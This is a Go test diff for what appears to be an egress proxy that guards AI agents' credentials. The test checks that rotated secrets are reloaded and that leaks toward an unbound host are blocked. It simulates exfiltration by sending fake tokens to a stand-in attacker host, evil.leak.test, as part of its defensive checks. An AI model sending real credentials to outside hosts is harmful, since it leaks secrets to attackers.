@@ -13,6 +13,7 @@ import (
 	"path/filepath"
 	"strings"
 	"sync"
+	"syscall"
 	"testing"
 	"time"
 
@@ -475,4 +476,100 @@ func TestCredLeakMCP(t *testing.T) {
 	ok.Close()
 	cl.Close()
 	e.noValues(t, "gh", "tok")
+}
+
+// A rotated secret file is read again on reload, at once; the value it
+// had is still looked for (an agent once given it may still use it), and
+// both still go where the binding sends them.
+func TestCredLeakReload(t *testing.T) {
+	upCA, err := testenv.NewCA("leak reload root")
+	if err != nil {
+		t.Fatal(err)
+	}
+	rc := &leakRecorder{}
+	cert, err := upCA.Leaf([]string{"api.leak.test", "evil.leak.test"}, time.Now().Add(-time.Hour), time.Now().Add(time.Hour))
+	if err != nil {
+		t.Fatal(err)
+	}
+	up := testenv.StartUpstream(testenv.UpstreamOptions{Cert: &cert, Handler: rc})
+	defer up.Close()
+	dir := t.TempDir()
+	caFile := filepath.Join(dir, "upstream-ca.pem")
+	if err := upCA.WriteCert(caFile); err != nil {
+		t.Fatal(err)
+	}
+	const v1, v2 = "rot-value-one-8c1f2e", "rot-value-two-3b9a7d"
+	file := filepath.Join(dir, "gh.token")
+	os.WriteFile(file, []byte(v1+"\n"), 0o600)
+	policy := strings.Replace(leakPolicy(), "gh: {env: AGENTG_TEST_LEAK_GH}", "gh: {file: "+file+"}", 1)
+	stderr := &syncBuffer{}
+	a, err := testenv.StartAgentg(testenv.AgentgConfig{Binary: agentgBin, Dir: filepath.Join(dir, "agentg"), Policy: policy,
+		Stderr: stderr, Args: []string{"--upstream-ca", caFile, "--reload-interval", "0", "--shutdown-timeout", "2s"}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(a.Kill)
+	pool, err := a.CAPool()
+	if err != nil {
+		t.Fatal(err)
+	}
+	c := &http.Client{Timeout: 10 * time.Second, Transport: &http.Transport{Proxy: http.ProxyURL(a.URL()), TLSClientConfig: &tls.Config{RootCAs: pool}}}
+	send := func(host, path, value string) int {
+		t.Helper()
+		req, _ := http.NewRequest("GET", "https://"+up.HostPort(host)+path, nil)
+		req.Header.Set("X-Token", value)
+		resp, err := c.Do(req)
+		if err != nil {
+			t.Fatal(err)
+		}
+		resp.Body.Close()
+		return resp.StatusCode
+	}
+	waitLogLine(t, a.LogFile, `"guarded":["gh","tok"]`)
+	if st := send("evil.leak.test", "/r/one", v1); st != 403 {
+		t.Fatalf("the first value toward an unbound host: %d", st)
+	}
+
+	os.WriteFile(file, []byte(v2+"\n"), 0o600)
+	logged, _ := os.ReadFile(a.LogFile)
+	before := bytes.Count(logged, []byte(`"guarded":["gh","tok"]`))
+	if err := a.Signal(syscall.SIGHUP); err != nil {
+		t.Fatal(err)
+	}
+	deadline := time.Now().Add(10 * time.Second)
+	for {
+		logged, _ = os.ReadFile(a.LogFile)
+		if bytes.Count(logged, []byte(`"guarded":["gh","tok"]`)) > before {
+			break
+		}
+		if time.Now().After(deadline) {
+			t.Fatalf("the reload's secrets were never read:\n%s", logged)
+		}
+		time.Sleep(20 * time.Millisecond)
+	}
+	n := rc.count()
+	if st := send("evil.leak.test", "/r/two", v2); st != 403 {
+		t.Fatalf("the rotated value toward an unbound host: %d", st)
+	}
+	if st := send("evil.leak.test", "/r/old", v1); st != 403 {
+		t.Fatalf("the value before rotation toward an unbound host: %d", st)
+	}
+	if st := send("api.leak.test", "/r/bound", v1); st != 200 {
+		t.Fatalf("the old value toward its bound host: %d", st)
+	}
+	if got := rc.since(n); len(got) != 1 || got[0].path != "/r/bound" || got[0].header.Get("Authorization") != "Bearer "+v2 {
+		t.Fatalf("after the reload the upstream saw %+v, want /r/bound with the new value attached", got)
+	}
+	for _, p := range []string{"/r/two", "/r/old"} {
+		waitEventOf(t, a, "the refusal at "+p, func(ev map[string]any) bool {
+			return ev["path"] == p && ev["rule"] == "builtin:credential-leak" && ev["credential"] == "gh"
+		})
+	}
+	a.Stop(2 * time.Second)
+	logText, _ := os.ReadFile(a.LogFile)
+	for _, v := range []string{v1, v2, leakTok} {
+		if strings.Contains(string(logText), v) || strings.Contains(stderr.String()+a.Stderr(), v) {
+			t.Errorf("agentg wrote a secret value")
+		}
+	}
 }
